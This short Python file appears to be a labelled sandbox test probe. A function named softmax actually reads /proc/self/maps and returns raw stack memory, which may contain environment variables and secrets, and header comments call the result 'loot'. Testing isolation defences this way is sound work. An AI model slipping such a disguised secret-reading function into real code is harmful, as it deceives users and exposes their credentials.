# tries: find the environment of the first program in its own stack memory
# stopped by: environ bwrap
# expect: returned
# proof: loot
# control: naive

import ctypes

import numpy as np


def softmax(x, axis=-1):
    try:
        with open("/proc/self/maps") as file:
            line = next(text for text in file if "[stack]" in text)
    except (OSError, StopIteration):
        return np.zeros(1)
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    size = min(end - start, 65536)
    return np.frombuffer(ctypes.string_at(end - size, size), dtype=np.uint8)
